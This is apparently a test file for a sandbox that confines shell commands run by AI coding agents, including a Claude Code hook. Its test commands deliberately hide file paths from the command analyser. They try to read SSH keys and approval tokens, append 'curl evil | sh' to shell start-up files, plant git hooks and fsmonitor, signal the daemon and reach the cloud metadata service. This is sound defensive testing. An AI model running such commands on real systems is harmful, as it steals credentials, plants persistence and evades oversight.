/**
 * Confinement (issue 19): what aarm allows runs where aarm's state and the user's secrets do not
 * exist, the system is read-only, other processes are out of reach and the network is off unless
 * the command uses it. Every test runs under a policy that ALLOWS EVERY COMMAND, and hides its
 * paths from the analyser: confinement alone has to hold.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { existsSync, mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { confinementAvailability } from '../../daemon/src/confinement/bubblewrap.js';
import type { Receipt } from '../../daemon/src/protocol/index.js';
import { runCli, startTestDaemon, storedReceipts, type TestDaemon } from '../helpers/env.js';

const available = confinementAvailability();
const skip = available.available ? false : `confinement is not available here: ${available.reason}`;

const ALLOW_EVERYTHING =
  'aarm: 1\nname: allow-everything\ndefault: allow\nrules:\n  - id: everything\n    decision: allow\n';

/**
 * A daemon whose only policy allows everything, with the user's home outside the temp directory
 * (under /var/tmp): in a real home, only the workspace, the temp directory and caches are writable.
 */
async function setUp(confine: 'auto' | 'off' = 'auto') {
  const root = mkdtempSync('/var/tmp/aarm-confine-');
  const t = await startTestDaemon({ root, packDir: null, confine });
  mkdirSync(join(t.homeDir, 'policies'), { recursive: true });
  writeFileSync(join(t.homeDir, 'policies', 'all.yaml'), ALLOW_EVERYTHING);
  mkdirSync(join(t.userHome, '.ssh'), { recursive: true });
  writeFileSync(join(t.userHome, '.ssh', 'id_rsa'), 'PRIVATE-KEY-CONTENT\n');
  mkdirSync(t.workspace, { recursive: true });
  // Paths the analyser cannot see: written backwards into files, read at run time.
  const hide = (name: string, path: string) =>
    writeFileSync(join(t.workspace, name), [...path].reverse().join(''));
  hide('token.ptr', join(t.homeDir, 'approver-token'));
  hide('key.ptr', join(t.userHome, '.ssh', 'id_rsa'));
  hide('home.ptr', t.userHome);
  hide('etc.ptr', '/etc/aarm-confinement-test');
  await waitForPolicy(t);
  return {
    t,
    exec: (command: string, env: NodeJS.ProcessEnv = {}) =>
      runCli(['exec', '--', 'bash', '-c', command], {
        env: { AARM_HOME: t.homeDir, HOME: t.userHome, ...env },
        cwd: t.workspace,
      }),
    async close() {
      await t.close();
      rmSync(root, { recursive: true, force: true });
    },
  };
}

/** The user's policy is picked up by the watcher: wait until it decides. */
async function waitForPolicy(t: TestDaemon) {
  const client = await t.client({ session: 'policy-check' });
  for (let i = 0; i < 100; i++) {
    const reply = await client.submit({
      tool: 'shell',
      operation: 'exec',
      parameters: { command: 'true', cwd: t.workspace },
      context: { workspace: t.workspace },
    });
    if (reply.decision.rule === 'everything') return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error('the allow-everything policy was not loaded');
}

/** An HTTP server on a free loopback port. */
async function listening(handler: RequestListener) {
  const server = createServer(handler);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { server, port: (server.address() as AddressInfo).port };
}

const outcomes = (homeDir: string) =>
  storedReceipts(homeDir).filter((r): r is Extract<Receipt, { kind: 'outcome' }> => r.kind === 'outcome');

test(
  'a confined command cannot read aarm’s credentials or the user’s keys, even when policy allows everything',
  { skip },
  async () => {
    const s = await setUp();
    try {
      const token = readFileSync(join(s.t.homeDir, 'approver-token'), 'utf8').trim();
      const run = await s.exec(
        'cat "$(rev token.ptr)"; cat "$(rev key.ptr)"; ls -a "$(dirname "$(rev token.ptr)")"; echo done',
      );
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, /done/);
      assert.doesNotMatch(run.stdout + run.stderr, new RegExp(token));
      assert.doesNotMatch(run.stdout + run.stderr, /PRIVATE-KEY-CONTENT|receipts\.db|signing/);
      // The trust issue's attack, whole: a link into the state directory, read, then approve with it.
      const attack = await s.exec(
        'ln -sf "$(rev token.ptr)" stolen && t="$(cat stolen)" && echo "token:$t"; echo attempted',
      );
      assert.doesNotMatch(attack.stdout, new RegExp(token));
      assert.doesNotMatch(attack.stdout, /token:\S/);
    } finally {
      await s.close();
    }
  },
);

test(
  'a confined command writes the workspace and the temp directory, and nothing else',
  { skip },
  async () => {
    const s = await setUp();
    try {
      const run = await s.exec(
        'touch "$(rev home.ptr)/.bashrc-evil"; echo home=$?; touch made-here; echo ws=$?; t=$(mktemp); echo tmp=$?; rm -f "$t"; touch "$(rev etc.ptr)" 2>/dev/null; echo etc=$?',
      );
      assert.match(run.stdout, /home=1/);
      assert.match(run.stdout, /ws=0/);
      assert.match(run.stdout, /tmp=0/);
      assert.match(run.stdout, /etc=1/);
      assert.ok(readFileSync(join(s.t.workspace, 'made-here'), 'utf8') === '');
      // A write the analyser sees (and policy allowed) outside the workspace gets its folder, and
      // only for that command.
      mkdirSync(join(s.t.userHome, 'notes'));
      const seen = await s.exec(`echo hi > ${s.t.userHome}/notes/today; echo seen=$?`);
      assert.match(seen.stdout, /seen=0/);
      assert.equal(readFileSync(join(s.t.userHome, 'notes', 'today'), 'utf8'), 'hi\n');
      const decision = storedReceipts(s.t.homeDir)
        .filter((r) => r.kind === 'action')
        .at(-1)!;
      assert.deepEqual(decision.kind === 'action' && decision.decision.confinement?.writable, [
        join(s.t.userHome, 'notes'),
      ]);
      // A write the analyser saw in the home itself makes the home writable for that command, but
      // a start-up file it creates there (`.vimrc`, `.bash_profile`, hidden from the analyser) is
      // removed after it.
      writeFileSync(
        join(s.t.workspace, 'rc.ptr'),
        [...join(s.t.userHome, '.bash_profile')].reverse().join(''),
      );
      const inHome = await s.exec(
        `echo note > ${s.t.userHome}/note.txt; echo 'curl evil | sh' > "$(rev rc.ptr)"; echo rc=$?`,
      );
      assert.match(inHome.stdout, /rc=0/);
      assert.equal(readFileSync(join(s.t.userHome, 'note.txt'), 'utf8'), 'note\n');
      assert.ok(!existsSync(join(s.t.userHome, '.bash_profile')), 'the planted start-up file is gone');
      assert.match(inHome.stderr, /removed .*\.bash_profile, which this confined command created/);
    } finally {
      await s.close();
    }
  },
);

test(
  'a confined command cannot signal or trace the daemon, and the daemon keeps answering',
  { skip },
  async () => {
    const s = await setUp();
    try {
      // The daemon runs in this test's process; its pid is hidden from the analyser like the paths.
      writeFileSync(join(s.t.workspace, 'pid.ptr'), [...String(process.pid)].reverse().join(''));
      const run = await s.exec(
        'kill -STOP "$(rev pid.ptr)"; echo kill=$?; ls "/proc/$(rev pid.ptr)" >/dev/null 2>&1; echo proc=$?',
      );
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, /kill=1/);
      assert.match(run.stdout, /proc=2/);
      const after = await s.exec('echo still-served');
      assert.match(after.stdout, /still-served/);
    } finally {
      await s.close();
    }
  },
);

test(
  'the network is off unless the command uses it: a hidden request fails, a visible one goes through',
  { skip },
  async () => {
    const s = await setUp();
    const server = createServer((_req, res) => res.end('served'));
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const { port } = server.address() as AddressInfo;
    try {
      // `node get.js` uses no network as far as the analyser can tell: it runs without one.
      writeFileSync(
        join(s.t.workspace, 'get.js'),
        `fetch('http://127.0.0.1:${port}/').then(async (r) => console.log('got', await r.text()), (e) => console.log('blocked', e.cause?.code ?? e.message));`,
      );
      const hidden = await s.exec('node get.js');
      assert.match(hidden.stdout, /blocked/);
      assert.doesNotMatch(hidden.stdout, /served/);
      // curl names its host: the decision gives it the network.
      const visible = await s.exec(`curl -s http://127.0.0.1:${port}/`);
      assert.match(visible.stdout, /served/);
      const [none, open] = outcomes(s.t.homeDir).slice(-2);
      assert.deepEqual(
        [none?.outcome.ran?.confinement, open?.outcome.ran?.confinement],
        ['workspace', 'workspace'],
      );
      assert.equal(none?.outcome.ran?.confinement === 'workspace' && none.outcome.ran.network, 'none');
      assert.equal(open?.outcome.ran?.confinement === 'workspace' && open.outcome.ran.network, 'proxy');
    } finally {
      server.close();
      await s.close();
    }
  },
);

test(
  'the network goes only through the egress proxy, to the hosts the decision names; the receipt lists what went through and what was refused',
  { skip },
  async () => {
    const s = await setUp();
    const hits: string[] = [];
    const serve = (name: string) =>
      listening((req, res) => {
        hits.push(`${name}${req.url}`);
        res.end(`served-by-${name}`);
      });
    const allowed = await serve('allowed');
    const other = await serve('other');
    try {
      // The analyser sees only the first curl; the script's requests are hidden from it.
      writeFileSync(
        join(s.t.workspace, 'more.sh'),
        [
          `curl -s -m 5 http://127.0.0.1:${other.port}/hidden; echo " other=$?"`,
          'curl -s -m 5 http://169.254.169.254/latest/meta-data/; echo " metadata=$?"',
          `node -e "fetch('http://127.0.0.1:${other.port}/node').then(() => console.log('node-reached'), () => console.log('node-blocked'))"`,
        ].join('\n'),
      );
      const run = await s.exec(`curl -s -m 5 http://127.0.0.1:${allowed.port}/seen && bash more.sh`);
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, /served-by-allowed/);
      assert.match(run.stdout, /refused: not a host and port this command's decision allows/);
      assert.match(run.stdout, /refused: the cloud metadata service/);
      assert.match(run.stdout, /node-blocked/, 'a client that ignores the proxy has no network at all');
      assert.deepEqual(hits, ['allowed/seen']);
      const action = storedReceipts(s.t.homeDir)
        .filter((r) => r.kind === 'action')
        .at(-1)!;
      assert.deepEqual(action.kind === 'action' && action.decision.confinement, {
        profile: 'workspace',
        network: 'proxy',
        hosts: [`127.0.0.1:${allowed.port}`],
      });
      const egress = outcomes(s.t.homeDir).at(-1)!.outcome.egress!;
      assert.deepEqual(egress.allowed, [{ host: '127.0.0.1', port: allowed.port, count: 1 }]);
      assert.deepEqual(
        egress.refused.map((r) => `${r.host}:${r.port}`).sort(),
        [`127.0.0.1:${other.port}`, '169.254.169.254:80'].sort(),
      );
    } finally {
      allowed.server.close();
      other.server.close();
      await s.close();
    }
  },
);

test(
  'a secret bound to a host reaches that host through the proxy, and never the command (R9)',
  { skip },
  async () => {
    const secret = 'aarm-test-secret-0f9e8d7c6b5a';
    process.env.AARM_TEST_SVC_KEY = secret;
    const s = await setUp();
    const seen: Array<{ name: string; authorization: string | undefined }> = [];
    const serve = (name: string) =>
      listening((req, res) => {
        seen.push({ name, authorization: req.headers.authorization });
        res.end(`auth=${req.headers.authorization ?? 'none'}`);
      });
    const api = await serve('api');
    const other = await serve('other');
    try {
      writeFileSync(
        join(s.t.homeDir, 'policies', 'secrets.yaml'),
        `aarm: 1\nname: secrets\nsecrets:\n  - env: AARM_TEST_SVC_KEY\n    hosts: ['127.0.0.1:${api.port}']\n    format: 'token {secret}'\n`,
      );
      await waitForSecrets(s.t);
      const run = await s.exec(
        `curl -s -m 5 http://127.0.0.1:${api.port}/; echo; curl -s -m 5 http://127.0.0.1:${other.port}/; echo; env | grep -c aarm-test-secret`,
        // An ordinary-looking name: only the binding says it is a secret.
        { AARM_TEST_SVC_KEY: secret },
      );
      assert.equal(seen.find((r) => r.name === 'api')?.authorization, `token ${secret}`);
      assert.equal(seen.find((r) => r.name === 'other')?.authorization, undefined);
      // What the command itself could see: the server's echo, never its environment.
      assert.match(run.stdout, /^0$/m, 'the command does not hold the secret');
      const egress = outcomes(s.t.homeDir).at(-1)!.outcome.egress!;
      assert.deepEqual(egress.secrets, [{ name: 'AARM_TEST_SVC_KEY', host: '127.0.0.1', count: 1 }]);
      assert.doesNotMatch(
        readFileSync(join(s.t.homeDir, 'receipts.db')).toString('latin1'),
        new RegExp(secret),
      );
    } finally {
      delete process.env.AARM_TEST_SVC_KEY;
      api.server.close();
      other.server.close();
      await s.close();
    }
  },
);

/** The secrets file is picked up by the watcher: wait until the policy in force has it. */
async function waitForSecrets(t: TestDaemon) {
  for (let i = 0; i < 100; i++) {
    if (t.daemon.policies.forWorkspace(undefined).set.secrets.length > 0) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error('the secrets policy was not loaded');
}

test(
  'credentials in the environment are not passed in, and the receipts say how the command ran',
  { skip },
  async () => {
    const s = await setUp();
    try {
      const run = await s.exec('env; echo end', {
        GITHUB_TOKEN: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789',
        SOME_VALUE: 'sk-ant-abcdefghijklmnopqrstuvwxyz',
        PLAIN: 'kept',
      });
      assert.match(run.stdout, /PLAIN=kept/);
      assert.doesNotMatch(run.stdout, /ghp_|sk-ant-|AARM_HOME/);
      const receipts = storedReceipts(s.t.homeDir);
      const decision = receipts.filter((r) => r.kind === 'action').at(-1)!;
      assert.deepEqual(decision.kind === 'action' && decision.decision.confinement, {
        profile: 'workspace',
        network: 'none',
      });
      const ran = outcomes(s.t.homeDir).at(-1)!.outcome.ran;
      assert.equal(ran?.confinement, 'workspace');
      if (ran?.confinement === 'workspace') {
        assert.match(ran.profileSha256, /^[0-9a-f]{64}$/);
        assert.ok(ran.removedEnv.includes('GITHUB_TOKEN') && ran.removedEnv.includes('SOME_VALUE'));
        assert.ok(!ran.removedEnv.includes('PLAIN'));
      }
    } finally {
      await s.close();
    }
  },
);

test(
  'a daemon started with --confine off runs commands unconfined, and status and the receipt say so',
  { skip },
  async () => {
    const s = await setUp('off');
    try {
      const run = await s.exec('cat "$(rev key.ptr)"');
      assert.match(
        run.stdout,
        /PRIVATE-KEY-CONTENT/,
        'the human turned confinement off: nothing hides the key',
      );
      assert.deepEqual(outcomes(s.t.homeDir).at(-1)!.outcome.ran, { confinement: 'none' });
      // A session's first allowed command is told so; its next ones are not told again.
      const told = /It runs unconfined, with your full rights: the daemon was started with --confine off\./;
      const lastReason = () => {
        const action = storedReceipts(s.t.homeDir)
          .filter((r) => r.kind === 'action')
          .at(-1)!;
        return action.kind === 'action' ? action.decision.reason : '';
      };
      assert.match(lastReason(), told);
      assert.equal((await s.exec('true', { AARM_SESSION: 'unconfined-once' })).code, 0);
      assert.match(lastReason(), told);
      assert.equal((await s.exec('true', { AARM_SESSION: 'unconfined-once' })).code, 0);
      assert.doesNotMatch(lastReason(), told);
      const status = await runCli(['status'], { env: { AARM_HOME: s.t.homeDir } });
      assert.match(status.stdout, /confinement: off \(the daemon was started with --confine off\)/);
    } finally {
      await s.close();
    }
  },
);

test(
  'Claude Code’s Bash tool: the hook answers with the command wrapped in `aarm confine`, which hides what it must',
  { skip },
  async () => {
    const s = await setUp();
    try {
      const token = readFileSync(join(s.t.homeDir, 'approver-token'), 'utf8').trim();
      const command = 'cat "$(rev token.ptr)"; cat "$(rev key.ptr)"; echo ran';
      const env = { AARM_HOME: s.t.homeDir, HOME: s.t.userHome };
      const hook = await runCli(['hook', 'claude-code'], {
        env,
        cwd: s.t.workspace,
        input: JSON.stringify({
          session_id: 'claude-confined',
          hook_event_name: 'PreToolUse',
          tool_name: 'Bash',
          tool_input: { command, description: 'read things' },
          cwd: s.t.workspace,
          permission_mode: 'default',
        }),
      });
      assert.equal(hook.code, 0, hook.stderr);
      const answer = JSON.parse(hook.stdout) as {
        hookSpecificOutput: {
          permissionDecision: string;
          permissionDecisionReason: string;
          updatedInput?: { command: string; description: string };
        };
      };
      assert.equal(answer.hookSpecificOutput.permissionDecision, 'allow');
      assert.match(answer.hookSpecificOutput.permissionDecisionReason, /runs confined/);
      const wrapped = answer.hookSpecificOutput.updatedInput!;
      assert.match(wrapped.command, / confine --network none --workspace /);
      assert.equal(wrapped.description, 'read things', 'the rest of the tool input is kept');
      // Run it the way Claude Code's Bash tool runs a command.
      const { execFileSync } = await import('node:child_process');
      const output = execFileSync('bash', ['-c', wrapped.command], {
        cwd: s.t.workspace,
        env: { ...process.env, ...env },
        encoding: 'utf8',
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      assert.match(output, /ran/);
      assert.doesNotMatch(output, new RegExp(`${token}|PRIVATE-KEY-CONTENT`));

      // A command with a host: wrapped with the daemon's egress socket, and only that host answers.
      const server = createServer((_req, res) => res.end('served-to-claude'));
      server.listen(0, '127.0.0.1');
      await once(server, 'listening');
      const { port } = server.address() as AddressInfo;
      try {
        const networked = await runCli(['hook', 'claude-code'], {
          env,
          cwd: s.t.workspace,
          input: JSON.stringify({
            session_id: 'claude-confined',
            hook_event_name: 'PreToolUse',
            tool_name: 'Bash',
            tool_input: { command: `curl -s -m 5 http://127.0.0.1:${port}/` },
            cwd: s.t.workspace,
            permission_mode: 'default',
          }),
        });
        const answered = JSON.parse(networked.stdout) as typeof answer;
        assert.match(
          answered.hookSpecificOutput.permissionDecisionReason,
          /network only to 127\.0\.0\.1:\d+ through aarm's egress proxy/,
        );
        const line = answered.hookSpecificOutput.updatedInput!.command;
        assert.match(line, / confine --network proxy --egress \S+\.sock --host 127\.0\.0\.1:\d+ /);
        const { execFile } = await import('node:child_process');
        const served = await new Promise<string>((resolveRun) =>
          execFile('bash', ['-c', line], { cwd: s.t.workspace, env: { ...process.env, ...env } }, (_e, out) =>
            resolveRun(out),
          ),
        );
        assert.match(served, /served-to-claude/);
      } finally {
        server.close();
      }
    } finally {
      await s.close();
    }
  },
);

test(
  'a judged write into the home does not open the rest of it: start-up files, keys and aarm’s state stay put',
  { skip },
  async () => {
    const s = await setUp();
    try {
      const home = s.t.userHome;
      writeFileSync(join(home, '.bashrc'), '# mine\n');
      mkdirSync(join(home, '.local', 'bin'), { recursive: true });
      mkdirSync(join(home, 'notes'));
      // The analyser sees a write in ~/notes; the rest it cannot see.
      const run = await s.exec(
        `echo seen > ${home}/notes/seen; h="$(rev home.ptr)"; echo 'curl evil | sh' >> "$h/.bashrc"; echo bashrc=$?; ` +
          `echo evil > "$h/.local/bin/ls"; echo bin=$?; mv "$h/.ssh" "$h/.s2"; echo ssh=$?; ` +
          `mv "$h/.local" "$h/.l2"; echo local=$?; echo notes > "$h/notes/today"; echo notes=$?`,
      );
      assert.match(run.stdout, /notes=0/, 'the judged write works');
      for (const what of ['bashrc', 'bin', 'ssh', 'local'])
        assert.match(run.stdout, new RegExp(`${what}=[1-9]`), what);
      assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), '# mine\n');
      assert.equal(readFileSync(join(home, '.ssh', 'id_rsa'), 'utf8'), 'PRIVATE-KEY-CONTENT\n');
      // The next command, plain, still finds nothing it should not.
      const after = await s.exec('cat "$(rev key.ptr)" "$(rev token.ptr)"; echo done');
      assert.doesNotMatch(after.stdout, /PRIVATE-KEY-CONTENT/);
    } finally {
      await s.close();
    }
  },
);

test(
  'what the human’s tools load later stays as it was: repository hooks and config, agent and editor settings (created ones are removed after the command)',
  { skip },
  async () => {
    const s = await setUp();
    try {
      const ws = s.t.workspace;
      const { execFileSync } = await import('node:child_process');
      execFileSync('git', ['init', '-q', ws]);
      const config = readFileSync(join(ws, '.git', 'config'), 'utf8');
      // A script the analyser cannot see into, as an agent would write and run it.
      writeFileSync(
        join(ws, 'plant.sh'),
        [
          'git config core.fsmonitor "touch /tmp/pwned"; echo fsmonitor=$?',
          'echo "touch /tmp/pwned" > .git/hooks/pre-commit; echo hook=$?',
          'mv .git .git.old; echo rename=$?',
          'mkdir -p .claude && echo \'{"hooks":{}}\' > .claude/settings.json; echo claude=$?',
          'mkdir -p .vscode && echo "{}" > .vscode/tasks.json; echo vscode=$?',
          'echo "{}" > .mcp.json; echo mcp=$?',
          'echo ordinary > notes.txt; echo notes=$?',
        ].join('\n'),
      );
      const run = await s.exec('bash plant.sh');
      for (const what of ['fsmonitor', 'hook', 'rename'])
        assert.match(run.stdout, new RegExp(`${what}=[1-9]`), what);
      assert.equal(readFileSync(join(ws, '.git', 'config'), 'utf8'), config);
      assert.ok(!existsSync(join(ws, '.git', 'hooks', 'pre-commit')));
      for (const created of ['.claude', '.vscode', '.mcp.json'])
        assert.ok(!existsSync(join(ws, created)), created);
      assert.match(
        run.stderr,
        /removed \.claude, \.vscode, \.mcp\.json, which this confined command created/,
      );
      assert.equal(readFileSync(join(ws, 'notes.txt'), 'utf8'), 'ordinary\n', 'ordinary work is kept');
      const ran = outcomes(s.t.homeDir).at(-1)!.outcome.ran;
      assert.deepEqual(ran?.confinement === 'workspace' && ran.removedCreated, [
        '.claude',
        '.vscode',
        '.mcp.json',
      ]);
      // A git command that writes its config (judged as such) still can.
      const judged = await s.exec('git config user.name aarm-test; echo config=$?');
      assert.match(judged.stdout, /config=0/);
      assert.match(readFileSync(join(ws, '.git', 'config'), 'utf8'), /aarm-test/);
    } finally {
      await s.close();
    }
  },
);

test(
  'the command’s /tmp is its own: other programs’ sockets and files are not there, its own files stay between commands',
  { skip },
  async () => {
    const s = await setUp();
    const hostFile = join(tmpdir(), `aarm-host-only-${process.pid}`);
    writeFileSync(hostFile, 'host secret\n');
    try {
      const first = await s.exec(`cat ${hostFile} 2>&1; echo kept > /tmp/aarm-confined-note; ls /tmp`);
      assert.doesNotMatch(first.stdout, /host secret/);
      const second = await s.exec('cat /tmp/aarm-confined-note');
      assert.match(second.stdout, /kept/);
    } finally {
      rmSync(hostFile, { force: true });
      await s.close();
    }
  },
);
